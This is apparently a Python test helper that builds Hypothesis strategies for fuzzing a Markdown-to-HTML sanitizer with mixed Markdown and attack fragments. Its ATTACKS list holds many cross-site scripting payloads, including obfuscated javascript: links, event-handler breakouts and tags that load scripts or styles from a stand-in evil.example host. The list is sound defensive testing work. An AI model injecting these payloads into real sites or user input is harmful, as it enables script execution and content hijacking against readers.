"""Of which pieces is an article made that wants to fool whoever reads it?

Every piece is a sign or two of Markdown, or of what could run in a browser; only together they become a fence
that is never closed, a link in two lines or a table in a note. ``␣`` stands for a blank, ``⇥`` for a tabulator,
``⏎`` for a new line.
"""

from hypothesis import strategies as st

_SIGNS = {ord("␣"): " ", ord("⇥"): "\t", ord("⏎"): "\n"}


def _pieces(text: str) -> tuple[str, ...]:
    return tuple(piece.translate(_SIGNS) for piece in text.split())


MARKDOWN = _pieces(
    """
    a b␣c Xã␣Tiên 0 1 é đ “ ” … ' " (c) a_b_c 5*6 $ { } {#x} {: : = ^ / & ; , . ! ? ~
    -␣ *␣ +␣ 1.␣ 2)␣ 10.␣ >␣ > -␣[␣]␣ -␣[x]␣ # ##␣ ###␣ ##␣M⏎ --- === *** ___ : |
    ⏎ ⏎ ⏎ ⏎ ⏎⏎ ⏎⏎ ⏎⏎ ␣␣⏎ \\⏎ ␣ ␣␣ ␣␣␣ ␣␣␣␣ ⇥
    ** * __ _ ~~ ` `` ``` ⏎```⏎ ␣```⏎ ~~~ ~~~⏎ \\ \\* \\` \\[ &amp; &copy; &#35; &lt;
    [ ] ( ) ![ [a] [a]: [q] [q]:␣/don-vi/⏎ [q]:⏎␣␣/don-vi/⏎ [^1] [^1]:␣c⏎ [^1]:␣
    [a](/don-vi/) [a](/don-vi/␣"t") [a](#m) [a](<) ](/don-vi/) ](
    https://a.example/b www.a.example hdnd@vi-du.example <https://a.example> ftp://a.example
    |a|b|⏎ |-|-|⏎ |:-|-:|⏎ a|b \\|
    """
)
"""Signs of Markdown, as editors use and misuse them."""

ATTACKS = _pieces(
    """
    <script>tell()</script> <script␣src=//evil.example/x.js></script> <img␣src=x␣onerror=tell()>
    <svg␣onload=tell()> <svg><script>tell()</script></svg> <iframe␣src=javascript:tell()>
    <iframe␣srcdoc="<script>parent.tell()</script>"> <a␣href=javascript:tell()>a</a>
    <style>@import␣"//evil.example/x.css";</style> <link␣rel=stylesheet␣href=//evil.example>
    <base␣href=//evil.example/> <form␣action=//evil.example><button␣autofocus␣onfocus=tell()>a
    <details␣open␣ontoggle=tell()> <meta␣http-equiv=refresh␣content="0;url=//evil.example">
    <object␣data=//evil.example> <embed␣src=//evil.example> <!--␣ --> <![CDATA[ ]]> <?x ?> <div> </div>
    <div␣markdown="1"> <p␣markdown> <pre> </pre> <textarea> <title> </title> [a](javascript:tell())
    [a](JaVaScRiPt:tell()) [a](java⏎script:tell()) [a](&#106;avascript:tell()) [a](javascript&colon;tell())
    [a](<javascript:tell()>) [a](data:text/html,<script>tell()</script>) [a](vbscript:x) [a](//evil.example)
    [a](/\\evil.example) [a](https://evil.example/) <javascript:tell()> [q]:␣javascript:tell()⏎
    [q]:⏎␣javascript:tell()⏎ [a⏎b](javascript:tell()) [a[b[c]d]e](javascript:tell())
    ![a](http://evil.example/x.png) ![a⏎b](//evil.example/x.png) ![t][q] [q]:⏎//evil.example/x.png⏎
    ![a](x␣"onerror=tell()) ![a](x"onerror="tell()) ![a"onerror="tell()](x) [a](x"onclick="tell())
    [a](/don-vi/␣'"␣onmouseover=tell()␣"') {:␣onclick="tell()"␣} {␣onmouseover=tell()␣} {:␣.x␣#y␣}
    {␣src="//evil.example"␣} ```{␣.x␣onclick=tell()␣} ```␣{.x␣onclick="tell()"} "><script>tell()</script>
    '><img␣src=x␣onerror=tell()> </article><script>tell()</script> </script><script>tell()</script>
    &lt;script&gt;tell()&lt;/script&gt; &#60;script> \\<script>tell()</script> `<script>tell()</script>
    ``<img␣src=x␣onerror=tell()>` klzzwxh:0000 @/don-vi/ @/../ {{␣x␣}} {%␣raw␣%} [TOC] ::: !!!␣note ???␣x $$ $x$
    :smile: &#x202e; &shy; &#0; javascript:tell() onerror=tell() style=position:fixed srcset=//evil.example <b
    onclick=tell()> tell()
    """
)
"""What would run, load something from elsewhere, or break out of its place, if a reader took it for code."""


def articles(*, attacks: int = 1) -> st.SearchStrategy[str]:
    """Return bodies of articles; of every three pieces ``attacks`` are attacks, the rest is Markdown."""
    pieces = st.one_of(*[st.sampled_from(ATTACKS)] * attacks, *[st.sampled_from(MARKDOWN)] * (3 - attacks))
    return st.lists(pieces, min_size=1, max_size=25).map("".join)
